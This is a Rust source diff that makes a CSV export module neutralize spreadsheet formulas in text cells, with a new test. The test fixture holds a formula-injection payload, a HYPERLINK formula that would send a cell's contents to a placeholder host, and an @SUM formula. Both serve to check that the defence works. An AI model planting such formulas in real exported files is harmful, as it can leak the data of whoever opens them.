@@ -10,33 +10,54 @@
 //! assert_eq!(String::from_utf8(csv).unwrap(), "CODGEO,PIMP20\n01004,48.5\n01005,s\n");
 //! ```
 
+use crate::engine::csv_out::{self, CsvOut, Field};
 use crate::engine::format;
 use crate::engine::read::parse::{SetAside, SetAsideReason};
-use crate::engine::table::Table;
+use crate::engine::table::{Cell, Table};
+use std::borrow::Cow;
 
-/// Writes `table` as a clean CSV.
+/// Writes `table` as a clean CSV; text cells a spreadsheet would run as formulas are
+/// neutralized (see [`csv_out`](crate::engine::csv_out)).
 pub fn write(table: &Table) -> Vec<u8> {
-    let mut out = ::csv::WriterBuilder::new().terminator(::csv::Terminator::Any(b'\n')).from_writer(Vec::new());
+    let mut out = CsvOut::new();
     let columns = table.columns();
-    // Writing to a Vec cannot fail.
-    let _ = out.write_record(columns.iter().map(|c| c.name()));
-    let mut record: Vec<String> = Vec::with_capacity(columns.len());
+    out.text_row(columns.iter().map(|c| c.name()));
+    let mut record: Vec<(bool, String)> = Vec::with_capacity(columns.len());
     for row in 0..table.rows() {
         record.clear();
-        record.extend(columns.iter().map(|c| format::plain(c.cell(row))));
-        let _ = out.write_record(&record);
+        record.extend(columns.iter().map(|c| {
+            let cell = c.cell(row);
+            (matches!(cell, Cell::Text(_)), format::plain(cell))
+        }));
+        out.row(record.iter().map(|(text, s)| if *text { Field::Text(s) } else { Field::Value(s) }));
     }
-    out.into_inner().unwrap_or_default()
+    out.into_bytes()
+}
+
+/// The columns of `table` whose text cells the clean CSV neutralizes, with how many in each.
+pub fn neutralized(table: &Table) -> Vec<(String, usize)> {
+    table
+        .columns()
+        .iter()
+        .filter_map(|c| {
+            let n = (0..c.len())
+                .filter(|&r| matches!(c.cell(r), Cell::Text(t) if matches!(csv_out::safe(t), Cow::Owned(_))))
+                .count();
+            (n > 0).then(|| (c.name().to_owned(), n))
+        })
+        .collect()
 }
 
 /// The rows set aside as a CSV (`ligne,raison,texte`), each reason worded by `reason`.
 pub fn set_aside(rows: &[SetAside], reason: impl Fn(&SetAsideReason) -> String) -> Vec<u8> {
-    let mut out = ::csv::WriterBuilder::new().terminator(::csv::Terminator::Any(b'\n')).from_writer(Vec::new());
-    let _ = out.write_record(["ligne", "raison", "texte"]);
+    let mut out = CsvOut::new();
+    out.text_row(["ligne", "raison", "texte"]);
     for row in rows {
-        let _ = out.write_record([row.line.to_string(), reason(&row.reason), row.text.clone()]);
+        let line = row.line.to_string();
+        let reason = reason(&row.reason);
+        out.row([Field::Value(&line), Field::Text(&reason), Field::Text(&row.text)]);
     }
-    out.into_inner().unwrap_or_default()
+    out.into_bytes()
 }
 
 #[cfg(test)]
@@ -59,6 +80,16 @@ mod tests {
         let ws = Workspace::load("f.csv", b"a;b\n1;2\n3\n", &mut ()).unwrap();
         let csv = super::set_aside(ws.set_aside(), |_| "décalée".to_owned());
         assert_eq!(String::from_utf8(csv).unwrap(), "ligne,raison,texte\n3,décalée,3\n");
+    }
+
+    #[test]
+    fn formulas_in_text_cells_are_neutralized_numbers_are_not() {
+        let input = "CODGEO;LIBGEO;SOLDE\n59522;=HYPERLINK(\"http://exemple.invalid/?\"&A1;-3,5\n59523;@SUM(1+1);2\n";
+        let ws = Workspace::load("f.csv", input.as_bytes(), &mut ()).unwrap();
+        let csv = String::from_utf8(super::write(ws.table())).unwrap();
+        assert!(csv.contains("'=HYPERLINK") && csv.contains("'@SUM(1+1)"), "{csv}");
+        assert!(csv.contains(",-3.5\n"), "a number keeps its sign: {csv}");
+        assert_eq!(super::neutralized(ws.table()), [("LIBGEO".to_owned(), 2)]);
     }
 
     #[test]
